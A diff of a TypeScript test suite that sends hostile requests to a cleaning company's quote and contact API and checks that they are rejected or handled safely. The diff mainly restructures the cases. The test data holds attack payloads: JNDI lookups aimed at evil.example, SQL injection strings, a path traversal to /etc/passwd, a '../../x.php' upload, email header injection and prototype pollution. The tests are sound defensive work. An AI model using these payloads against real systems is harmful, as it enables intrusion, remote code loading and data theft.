@@ -1,12 +1,15 @@
 import { aQuoteRequest } from "../../support/intake/aQuoteRequest";
+import { everyField } from "./bodies";
 import { form, json, quote } from "./builders";
 import {
   accepted,
   badRequest,
+  cases,
   forbidden,
   type HostileCase,
   type HostileRequest,
   invalid,
+  posted,
   refused,
   wrongType,
 } from "./HostileRequest";
@@ -14,42 +17,23 @@ import {
 const text = JSON.stringify(aQuoteRequest());
 const allowPost = refused(405, "method_not_allowed", { allow: "POST" });
 const notFound = refused(404, "not_found");
-/** Netlify's own answer for a path without a Function. */
-const elsewhere: Partial<HostileCase> = { only: "server" };
+const site = "https://www.dogwoodcleaning.example";
 
 function typed(type: string | undefined, body: string | Uint8Array = text): HostileRequest {
   return { headers: type === undefined ? [] : [["Content-Type", type]], body: Buffer.from(body) };
 }
 
 const methods: HostileCase[] = [
-  ...[
-    "GET",
-    "PUT",
-    "PATCH",
-    "DELETE",
-    "OPTIONS",
-    "PROPFIND",
-    "TRACE",
-    "QUERY",
-    "LOCK",
-    "M-SEARCH",
-  ].map((method): HostileCase => ({
-    name: method,
-    request: { ...json(text), method },
-    expect: allowPost,
-  })),
-  { name: "HEAD", request: { method: "HEAD" }, expect: allowPost },
-  {
-    name: "a GET with the request in its query",
-    request: {
+  ...["GET", "PUT", "DELETE", "OPTIONS", "PROPFIND", "TRACE", "QUERY", "M-SEARCH"].flatMap(
+    (method) => cases(allowPost, { [method]: { ...json(text), method } }),
+  ),
+  ...cases(allowPost, {
+    HEAD: { method: "HEAD" },
+    "a GET with the request in its query": {
       method: "GET",
       path: `/api/quote-requests?${new URLSearchParams(aQuoteRequest()).toString()}`,
     },
-    expect: allowPost,
-  },
-  {
-    name: "a CORS preflight",
-    request: {
+    "a CORS preflight": {
       method: "OPTIONS",
       headers: [
         ["Origin", "https://evil.example"],
@@ -57,487 +41,254 @@ const methods: HostileCase[] = [
         ["Access-Control-Request-Headers", "content-type"],
       ],
     },
-    expect: allowPost,
-  },
-  {
-    name: "X-HTTP-Method-Override on a GET",
-    request: { ...json(text, [["X-HTTP-Method-Override", "POST"]]), method: "GET" },
-    expect: allowPost,
-  },
-  {
-    name: "X-HTTP-Method-Override on a POST",
-    request: quote({}, [["X-HTTP-Method-Override", "DELETE"]]),
-    expect: accepted,
-  },
-  {
-    name: "_method in the address",
-    request: { ...quote(), path: "/api/quote-requests?_method=DELETE" },
-    expect: accepted,
-  },
-  {
-    name: "_method in a form",
-    request: form({ _method: "DELETE" }),
-    expect: { status: 303, rows: 1, mails: 1 },
-  },
-  {
-    name: "a request in the query with an empty body",
-    request: {
+    "X-HTTP-Method-Override on a GET": {
+      ...json(text, { "X-HTTP-Method-Override": "POST" }),
+      method: "GET",
+    },
+  }),
+  ...cases(accepted, {
+    "X-HTTP-Method-Override on a POST": quote({}, { "X-HTTP-Method-Override": "DELETE" }),
+    "_method in the address": { ...quote(), path: "/api/quote-requests?_method=DELETE" },
+  }),
+  ...cases(posted, { "_method in a form": form({ _method: "DELETE" }) }),
+  ...cases(invalid(...everyField), {
+    "a request in the query with an empty body": {
       ...json("{}"),
       path: `/api/quote-requests?${new URLSearchParams(aQuoteRequest()).toString()}`,
     },
-    expect: invalid(
-      "firstName",
-      "lastName",
-      "email",
-      "phone",
-      "address",
-      "homeSize",
-      "serviceType",
-    ),
-  },
+  }),
 ];
 
 const contentTypes: HostileCase[] = [
   ...[
-    "text/plain",
     "text/plain;charset=UTF-8",
     "text/json",
-    "text/html",
-    "application/xml",
-    "application/octet-stream",
     "application/x-ndjson",
     "application/json-patch+json",
-    "application/vnd.api+json",
-    "application/jsonp",
-    "application/javascript",
-    "application/x-yaml",
     "application/json, text/plain",
     "application/json; charset=utf-16",
-    "application/json; charset=utf-7",
-    "application/json; charset=iso-8859-1",
     "application/json; charset=utf-8; boundary=x",
     "json",
     "*/*",
     "application/x-www-form-urlencoded; charset=shift_jis",
-    "multipart/form-data",
-    "multipart/form-data; boundary=x",
-    "multipart/mixed; boundary=x",
     "Multipart/Form-Data; boundary=x",
-    "image/png",
     "(application/json)",
-  ].map((type): HostileCase => ({
-    name: `Content-Type: ${type}`,
-    request: typed(type),
-    expect: wrongType,
-  })),
-  { name: "no Content-Type", request: typed(undefined), expect: wrongType },
-  { name: "an empty Content-Type", request: typed(""), expect: wrongType },
-  {
-    name: "Content-Type of 4,000 letters",
-    request: typed(`application/json; ${"x".repeat(4000)}`),
-    expect: wrongType,
-  },
-  {
-    name: "a real multipart form with a file",
-    request: typed(
+  ].flatMap((type) => cases(wrongType, { [`Content-Type: ${type}`]: typed(type) })),
+  ...cases(wrongType, {
+    "no Content-Type": typed(undefined),
+    "an empty Content-Type": typed(""),
+    "Content-Type of 4,000 letters": typed(`application/json; ${"x".repeat(4000)}`),
+    "a real multipart form with a file": typed(
       "multipart/form-data; boundary=XX",
       [
         '--XX\r\nContent-Disposition: form-data; name="firstName"\r\n\r\nJane\r\n',
         '--XX\r\nContent-Disposition: form-data; name="f"; filename="../../x.php"\r\n\r\n<?php\r\n--XX--\r\n',
       ].join(""),
     ),
-    expect: wrongType,
-  },
-  {
-    name: "a multipart form that never ends",
-    request: typed(
-      "multipart/form-data; boundary=XX",
-      '--XX\r\nContent-Disposition: form-data; name="f',
-    ),
-    expect: wrongType,
-  },
-  {
-    name: "a multipart form with a field called __proto__",
-    request: typed(
-      "multipart/form-data; boundary=XX",
-      '--XX\r\nContent-Disposition: form-data; name="__proto__[polluted]"\r\n\r\n1\r\n--XX--\r\n',
-    ),
-    expect: wrongType,
-  },
-  {
-    name: "Content-Type in capitals",
-    request: typed("APPLICATION/JSON; CHARSET=UTF-8"),
-    expect: accepted,
-  },
-  {
-    name: "Content-Type with a quoted charset",
-    request: typed('application/json;charset="utf-8"'),
-    expect: accepted,
-  },
-  {
-    name: "Content-Type with blanks and semicolons",
-    request: typed("application/json ; charset=utf-8 ;"),
-    expect: accepted,
-  },
+    "Content-Type twice, JSON last": {
+      headers: [
+        ["Content-Type", "text/plain"],
+        ["Content-Type", "application/json"],
+      ],
+      body: Buffer.from(text),
+    },
+  }),
+  ...cases(accepted, {
+    "Content-Type in capitals": typed("APPLICATION/JSON; CHARSET=UTF-8"),
+    "Content-Type with a quoted charset": typed('application/json;charset="utf-8"'),
+    "Content-Type with blanks and semicolons": typed("application/json ; charset=utf-8 ;"),
+  }),
+
   // Node keeps the first of two; Netlify joins them to an unknown type. Both are harmless.
-  {
-    name: "Content-Type twice, JSON first",
-    request: {
-      headers: [
-        ["Content-Type", "application/json"],
-        ["Content-Type", "text/plain"],
-      ],
-      body: Buffer.from(text),
+  ...cases(
+    accepted,
+    {
+      "Content-Type twice, JSON first": {
+        headers: [
+          ["Content-Type", "application/json"],
+          ["Content-Type", "text/plain"],
+        ],
+        body: Buffer.from(text),
+      },
     },
-    expect: accepted,
-    netlify: wrongType,
-  },
-  {
-    name: "Content-Type twice, JSON last",
-    request: {
-      headers: [
-        ["Content-Type", "text/plain"],
-        ["Content-Type", "application/json"],
-      ],
-      body: Buffer.from(text),
-    },
-    expect: wrongType,
-  },
+    { netlify: wrongType },
+  ),
 ];
 
 const origins: HostileCase[] = [
-  { name: "no Origin, as a program", request: quote(), expect: accepted },
-  {
-    name: "our own Origin",
-    request: quote({}, [
-      ["Origin", "https://www.dogwoodcleaning.example"],
-      ["Sec-Fetch-Site", "same-origin"],
-    ]),
-    expect: accepted,
-  },
+  ...cases(accepted, {
+    "no Origin, as a program": quote(),
+    "our own Origin": quote({}, { Origin: site, "Sec-Fetch-Site": "same-origin" }),
+  }),
   ...[
     "https://evil.example",
-    "https://www.dogwoodcleaning.example:8443",
-    "https://www.dogwoodcleaning.example.evil.example",
+    `${site}:8443`,
+    `${site}.evil.example`,
     "https://dogwoodcleaning.example",
-    "https://evil.example/https://www.dogwoodcleaning.example",
-    "https://www.dogwoodcleaning.example@evil.example",
+    `${site}@evil.example`,
     "null",
-    "file://",
     "",
-    "https://www.dogwoodcleaning.example, https://evil.example",
+    `${site}, https://evil.example`,
     "HTTPS://WWW.DOGWOODCLEANING.EXAMPLE.",
-  ].map((origin): HostileCase => ({
-    name: `Origin: ${origin}`,
-    request: quote({}, [["Origin", origin]]),
-    expect: forbidden,
-  })),
+  ].flatMap((origin) => cases(forbidden, { [`Origin: ${origin}`]: quote({}, { Origin: origin }) })),
   // A page under any name of the host that it posts to is ours, and over plain HTTP its browser sends no Sec-Fetch-Site.
-  ...["http://www.dogwoodcleaning.example", "https://www.dogwoodcleaning.example/"].flatMap(
-    (origin): HostileCase[] => [
-      {
-        name: `Origin: ${origin} at the same Host`,
-        request: quote({}, [
-          ["Host", "www.dogwoodcleaning.example"],
-          ["Origin", origin],
-        ]),
-        expect: accepted,
-      },
-      {
-        name: `Origin: ${origin} at another Host`,
-        request: quote({}, [
-          ["Host", "127.0.0.1:8000"],
-          ["Origin", origin],
-        ]),
-        expect: forbidden,
-      },
-    ],
+  ...["http://www.dogwoodcleaning.example", `${site}/`].flatMap((origin) => [
+    ...cases(accepted, {
+      [`Origin: ${origin} at the same Host`]: quote(
+        {},
+        { Host: "www.dogwoodcleaning.example", Origin: origin },
+      ),
+    }),
+    ...cases(forbidden, {
+      [`Origin: ${origin} at another Host`]: quote({}, { Host: "127.0.0.1:8000", Origin: origin }),
+    }),
+  ]),
+  ...cases(forbidden, {
+    "Origin twice": quote({}, [
+      ["Origin", site],
+      ["Origin", "https://evil.example"],
+    ]),
+    "Sec-Fetch-Site: cross-site": quote({}, { "Sec-Fetch-Site": "cross-site" }),
+    "Sec-Fetch-Site: cross-site with our Origin": quote(
+      {},
+      { "Sec-Fetch-Site": "cross-site", Origin: site },
+    ),
+    "Sec-Fetch-Site: same-site from another subdomain": quote(
+      {},
+      { "Sec-Fetch-Site": "same-site", Origin: "https://shop.dogwoodcleaning.example" },
+    ),
+    "Sec-Fetch-Site: something new": quote({}, { "Sec-Fetch-Site": "galaxy" }),
+    "Sec-Fetch-Site: same-origin with a foreign Origin and Host": quote(
+      {},
+      { "Sec-Fetch-Site": "same-origin", Origin: "https://evil.example" },
+    ),
+  }),
+  ...cases(
+    { status: 403, rows: 0, mails: 0 },
+    { "a form from another site": form({}, { Origin: "https://evil.example" }) },
   ),
-  {
-    name: "Origin twice",
-    request: quote({}, [
-      ["Origin", "https://www.dogwoodcleaning.example"],
-      ["Origin", "https://evil.example"],
-    ]),
-    expect: forbidden,
-  },
-  {
-    name: "Sec-Fetch-Site: cross-site",
-    request: quote({}, [["Sec-Fetch-Site", "cross-site"]]),
-    expect: forbidden,
-  },
-  {
-    name: "Sec-Fetch-Site: cross-site with our Origin",
-    request: quote({}, [
-      ["Sec-Fetch-Site", "cross-site"],
-      ["Origin", "https://www.dogwoodcleaning.example"],
-    ]),
-    expect: forbidden,
-  },
-  {
-    name: "Sec-Fetch-Site: same-site from another subdomain",
-    request: quote({}, [
-      ["Sec-Fetch-Site", "same-site"],
-      ["Origin", "https://shop.dogwoodcleaning.example"],
-    ]),
-    expect: forbidden,
-  },
-  {
-    name: "Sec-Fetch-Site: something new",
-    request: quote({}, [["Sec-Fetch-Site", "galaxy"]]),
-    expect: forbidden,
-  },
-  {
-    name: "Sec-Fetch-Site: same-origin with a foreign Origin and Host",
-    request: quote({}, [
-      ["Sec-Fetch-Site", "same-origin"],
-      ["Origin", "https://evil.example"],
-    ]),
-    expect: forbidden,
-  },
-  {
-    name: "a form from another site",
-    request: form({}, [
-      ["Origin", "https://evil.example"],
-      ["Sec-Fetch-Site", "cross-site"],
-    ]),
-    expect: { status: 403, rows: 0, mails: 0 },
-  },
-  {
-    name: "a form opened from an email",
-    request: form({}, [["Sec-Fetch-Site", "none"]]),
-    expect: { status: 303, rows: 1, mails: 1 },
-  },
+  ...cases(posted, { "a form opened from an email": form({}, { "Sec-Fetch-Site": "none" }) }),
 ];
 
 const tricks: HostileCase[] = [
-  {
-    name: "a forged X-Forwarded-For",
-    request: quote({}, [["X-Forwarded-For", "127.0.0.1, 10.0.0.1, evil"]]),
-    expect: accepted,
-  },
-  {
-    name: "X-Forwarded-For with an injection",
-    request: quote({}, [
-      ["X-Forwarded-For", "' OR 1=1; --"],
-      ["X-Real-IP", "${jndi:ldap://evil.example/x}"],
-    ]),
-    expect: accepted,
-  },
-  {
-    name: "X-Forwarded-For fifty times",
-    request: quote(
+  ...cases(accepted, {
+    "a forged X-Forwarded-For": quote({}, { "X-Forwarded-For": "127.0.0.1, 10.0.0.1, evil" }),
+    "X-Forwarded-For with an injection": quote(
+      {},
+      { "X-Forwarded-For": "' OR 1=1; --", "X-Real-IP": "${jndi:ldap://evil.example/x}" },
+    ),
+    "X-Forwarded-For fifty times": quote(
       {},
       Array.from({ length: 50 }, (_, n): [string, string] => ["X-Forwarded-For", `10.0.0.${n}`]),
     ),
-    expect: accepted,
-  },
-  {
-    name: "X-Forwarded-Host and Forwarded",
-    request: quote({}, [
-      ["X-Forwarded-Host", "evil.example"],
-      ["Forwarded", "host=evil.example;proto=http"],
-      ["X-Forwarded-Proto", "http"],
-    ]),
-    expect: accepted,
-  },
-  {
-    name: "X-Original-URL and X-Rewrite-URL",
-    request: quote({}, [
-      ["X-Original-URL", "/api/health"],
-      ["X-Rewrite-URL", "/admin"],
-    ]),
-    expect: accepted,
-  },
-  { name: "a foreign Host", request: quote({}, [["Host", "evil.example"]]), expect: accepted },
-  {
-    name: "a foreign Host and the matching Origin",
-    request: quote({}, [
-      ["Host", "evil.example"],
-      ["Origin", "https://evil.example"],
-    ]),
-    // docs/decisions/0064: a program can write both, and gains nothing that it has not without them.
-    expect: accepted,
-  },
-  {
-    name: "a foreign Host and another foreign Origin",
-    request: quote({}, [
-      ["Host", "evil.example"],
-      ["Origin", "https://other.example"],
-    ]),
-    expect: forbidden,
-  },
-  {
-    name: "a cookie of 4,000 letters",
-    request: quote({}, [["Cookie", `__proto__=1; a=${"x".repeat(4000)}`]]),
-    expect: accepted,
-  },
-  {
-    name: "a bearer token",
-    request: quote({}, [["Authorization", "Bearer eyJhbGciOiJub25lIn0.e30."]]),
-    expect: accepted,
-  },
-  {
-    name: "User-Agent with a Java expression",
-    request: quote({}, [["User-Agent", "${jndi:ldap://evil.example/a}"]]),
-    expect: accepted,
-  },
-  {
-    name: "User-Agent with terminal codes",
-    request: quote({}, [
-      ["User-Agent", "\x9b31mred"],
-      ["Referer", "javascript:alert(1)"],
-    ]),
-    expect: accepted,
-  },
-  { name: "Accept of anything", request: quote({}, [["Accept", "text/html"]]), expect: accepted },
-  {
-    name: "Range, If-Match and If-None-Match",
-    request: quote({}, [
-      ["Range", "bytes=0-1"],
-      ["If-Match", '"x"'],
-      ["If-None-Match", "*"],
-    ]),
-    expect: accepted,
-  },
-  {
-    name: "Expect: 100-continue",
-    request: quote({}, [["Expect", "100-continue"]]),
-    expect: accepted,
-  },
-  { name: "Upgrade: websocket", request: quote({}, [["Upgrade", "websocket"]]), expect: accepted },
-  {
-    name: "Trailer and TE",
-    request: quote({}, [
-      ["Trailer", "X-Bad"],
-      ["TE", "trailers"],
-    ]),
-    expect: accepted,
-  },
-  {
-    name: "a header called __proto__",
-    request: quote({}, [
-      ["__proto__", "polluted"],
-      ["constructor", "x"],
-    ]),
-    expect: accepted,
-  },
-  {
-    name: "a hundred headers",
-    request: quote(
+    "X-Forwarded-Host and Forwarded": quote(
+      {},
+      {
+        "X-Forwarded-Host": "evil.example",
+        Forwarded: "host=evil.example;proto=http",
+        "X-Forwarded-Proto": "http",
+      },
+    ),
+    "X-Original-URL and X-Rewrite-URL": quote(
+      {},
+      { "X-Original-URL": "/api/health", "X-Rewrite-URL": "/admin" },
+    ),
+    "a foreign Host": quote({}, { Host: "evil.example" }),
+    "a foreign Host and the matching Origin": quote(
+      {},
+      { Host: "evil.example", Origin: "https://evil.example" },
+    ),
+    "a cookie of 4,000 letters": quote({}, { Cookie: `__proto__=1; a=${"x".repeat(4000)}` }),
+    "a bearer token": quote({}, { Authorization: "Bearer eyJhbGciOiJub25lIn0.e30." }),
+    "User-Agent with a Java expression": quote(
+      {},
+      { "User-Agent": "${jndi:ldap://evil.example/a}" },
+    ),
+    "User-Agent with terminal codes": quote(
+      {},
+      { "User-Agent": "\x9b31mred", Referer: "javascript:alert(1)" },
+    ),
+    "Accept of anything": quote({}, { Accept: "text/html" }),
+    "Range, If-Match and If-None-Match": quote(
+      {},
+      { Range: "bytes=0-1", "If-Match": '"x"', "If-None-Match": "*" },
+    ),
+    "Expect: 100-continue": quote({}, { Expect: "100-continue" }),
+    "Upgrade: websocket": quote({}, { Upgrade: "websocket" }),
+    "Trailer and TE": quote({}, { Trailer: "X-Bad", TE: "trailers" }),
+    "a header called __proto__": quote({}, { __proto__: "polluted", constructor: "x" }),
+    "a hundred headers": quote(
       {},
       Array.from({ length: 100 }, (_, n): [string, string] => [`X-H${n}`, "x"]),
     ),
-    expect: accepted,
-  },
-  {
-    name: "Latin-1 bytes in a header",
-    request: quote({}, [["X-Name", "Jos\xe9"]]),
-    expect: accepted,
-  },
+    "Latin-1 bytes in a header": quote({}, { "X-Name": "Jos\xe9" }),
+  }),
+  ...cases(forbidden, {
+    "a foreign Host and another foreign Origin": quote(
+      {},
+      { Host: "evil.example", Origin: "https://other.example" },
+    ),
+  }),
 ];
 
 const idempotencyKeys: HostileCase[] = [
-  {
-    name: "a key of 8 letters",
-    request: quote({ details: "key 8" }, [["Idempotency-Key", "12345678"]]),
-    expect: accepted,
-  },
-  {
-    name: "a key of 255 letters",
-    request: quote({ details: "key 255" }, [["Idempotency-Key", "k".repeat(255)]]),
-    expect: accepted,
-  },
-  {
-    name: "a key in quotes",
-    request: quote({}, [["Idempotency-Key", '"c9f4dbb1-6a39-4a54-8e02-b0f8a0c9a1f2"']]),
-    expect: accepted,
-  },
-  {
-    name: "a key that is an injection",
-    request: quote({}, [["Idempotency-Key", "x';drop/**/table/**/quote_requests;--"]]),
-    expect: accepted,
-  },
-  {
-    name: "a key called __proto__",
-    request: quote({}, [["Idempotency-Key", "__proto__"]]),
-    expect: accepted,
-  },
-  {
-    name: "a key of 7 letters",
-    request: quote({}, [["Idempotency-Key", "1234567"]]),
-    expect: badRequest,
-  },
-  {
-    name: "a key of 256 letters",
-    request: quote({}, [["Idempotency-Key", "k".repeat(256)]]),
-    expect: badRequest,
-  },
-  {
-    name: "an empty key header",
-    request: quote({}, [["Idempotency-Key", ""]]),
-    expect: badRequest,
-  },
-  {
-    name: "a key with a blank inside",
-    request: quote({}, [["Idempotency-Key", "abcd efgh"]]),
-    expect: badRequest,
-  },
-  {
-    name: "a key with letters beyond ASCII",
-    request: quote({}, [["Idempotency-Key", "caf\xe9caf\xe9caf\xe9"]]),
-    expect: badRequest,
-  },
+  ...cases(accepted, {
+    "a key of 8 letters": quote({ details: "key 8" }, { "Idempotency-Key": "12345678" }),
+    "a key of 255 letters": quote({ details: "key 255" }, { "Idempotency-Key": "k".repeat(255) }),
+    "a key in quotes": quote({}, { "Idempotency-Key": '"c9f4dbb1-6a39-4a54-8e02-b0f8a0c9a1f2"' }),
+    "a key that is an injection": quote(
+      {},
+      { "Idempotency-Key": "x';drop/**/table/**/quote_requests;--" },
+    ),
+    "a key called __proto__": quote({}, { "Idempotency-Key": "__proto__" }),
+  }),
+  ...cases(badRequest, {
+    "a key of 7 letters": quote({}, { "Idempotency-Key": "1234567" }),
+    "a key of 256 letters": quote({}, [["Idempotency-Key", "k".repeat(256)]]),
+    "an empty key header": quote({}, { "Idempotency-Key": "" }),
+    "a key with a blank inside": quote({}, { "Idempotency-Key": "abcd efgh" }),
+    "a key with letters beyond ASCII": quote({}, { "Idempotency-Key": "caf\xe9caf\xe9caf\xe9" }),
+  }),
+
   // Node joins repeats with a blank, Netlify without: there the two are one longer key.
-  {
-    name: "two keys",
-    request: quote({}, [
-      ["Idempotency-Key", "first-key-1"],
-      ["Idempotency-Key", "second-key-2"],
-    ]),
-    expect: badRequest,
-    netlify: accepted,
-  },
+  ...cases(
+    badRequest,
+    {
+      "two keys": quote({}, [
+        ["Idempotency-Key", "first-key-1"],
+        ["Idempotency-Key", "second-key-2"],
+      ]),
+    },
+    { netlify: accepted },
+  ),
 ];
 
 const paths: HostileCase[] = [
-  {
-    name: "a query is ignored",
-    request: { ...quote(), path: "/api/quote-requests?__proto__[polluted]=1&a[]=1&a[]=2&%ff" },
-    expect: accepted,
-  },
+  ...cases(accepted, {
+    "a query is ignored": {
+      ...quote(),
+      path: "/api/quote-requests?__proto__[polluted]=1&a[]=1&a[]=2&%ff",
+    },
+  }),
+  // Netlify has an answer of its own for a path without a Function.
   ...[
     "/api/quote-requests/",
     "/api/quote-requests/../health",
     "/api/quote-requests%00",
-    "/api/QUOTE-REQUESTS/x",
     "/api",
-    "/api/",
     "/api/__proto__",
-    "/api/constructor",
     "/api/../package.json",
     "/api/..%2f..%2f..%2fetc%2fpasswd",
-    "/api/quote-requests.js",
     "/api//quote-requests",
     "/api/notifications",
+    "/api/%ff",
     "/api/notifications/deliver",
-  ].map((path): HostileCase => ({
-    ...elsewhere,
-    name: `POST ${path}`,
-    request: { ...quote(), path },
-    expect: notFound,
-  })),
-  {
-    ...elsewhere,
-    name: "POST /api/%ff, which is not UTF-8",
-    request: { ...quote(), path: "/api/%ff" },
-    expect: notFound,
-  },
-  {
-    name: "health by POST",
-    request: { ...json("{}"), path: "/api/health" },
-    expect: refused(405, "method_not_allowed", { allow: "GET, HEAD" }),
-  },
+  ].flatMap((path) =>
+    cases(notFound, { [`POST ${path}`]: { ...quote(), path } }, { only: "server" }),
+  ),
+  ...cases(refused(405, "method_not_allowed", { allow: "GET, HEAD" }), {
+    "health by POST": { ...json("{}"), path: "/api/health" },
+  }),
 ];
 
 const contact = {
@@ -552,45 +303,28 @@ const toContact = (changes: Record<string, unknown>): HostileRequest => ({
 });
 
 const contactMessages: HostileCase[] = [
-  { name: "a contact message", request: toContact({}), expect: accepted },
-  {
-    name: "a contact message with a phone",
-    request: toContact({ phone: "+44 20 7946 0958" }),
-    expect: accepted,
-  },
-  {
-    name: "a contact subject with a second header",
-    request: toContact({ subject: "Hi\r\nBcc: victim@example.com" }),
-    expect: invalid("subject"),
-  },
-  {
-    name: "a contact name with a second header",
-    request: toContact({ name: "Sam\nTo: victim@example.com" }),
-    expect: invalid("name"),
-  },
-  {
-    name: "a contact message with elements",
-    request: toContact({
+  ...cases(accepted, {
+    "a contact message with a phone": toContact({ phone: "+44 20 7946 0958" }),
+    "a contact message with elements": toContact({
       subject: "<b>Hi</b>",
       message: '<h1 onclick="x()">Hi</h1>\n.\r\n<style>*{display:none}</style>',
     }),
-    expect: accepted,
-  },
-  {
-    name: "an empty contact message",
-    request: toContact({ message: "\u200b \u00a0" }),
-    expect: invalid("message"),
-  },
-  {
-    name: "a contact message that is an array",
-    request: toContact({ message: ["x"] }),
-    expect: invalid("message"),
-  },
-  {
-    name: "a GET of contact messages",
-    request: { method: "GET", path: "/api/contact-messages" },
-    expect: allowPost,
-  },
+  }),
+  ...cases(invalid("subject"), {
+    "a contact subject with a second header": toContact({
+      subject: "Hi\r\nBcc: victim@example.com",
+    }),
+  }),
+  ...cases(invalid("name"), {
+    "a contact name with a second header": toContact({ name: "Sam\nTo: victim@example.com" }),
+  }),
+  ...cases(invalid("message"), {
+    "an empty contact message": toContact({ message: "\u200b \u00a0" }),
+    "a contact message that is an array": toContact({ message: ["x"] }),
+  }),
+  ...cases(allowPost, {
+    "a GET of contact messages": { method: "GET", path: "/api/contact-messages" },
+  }),
 ];
 
 export const headers = [
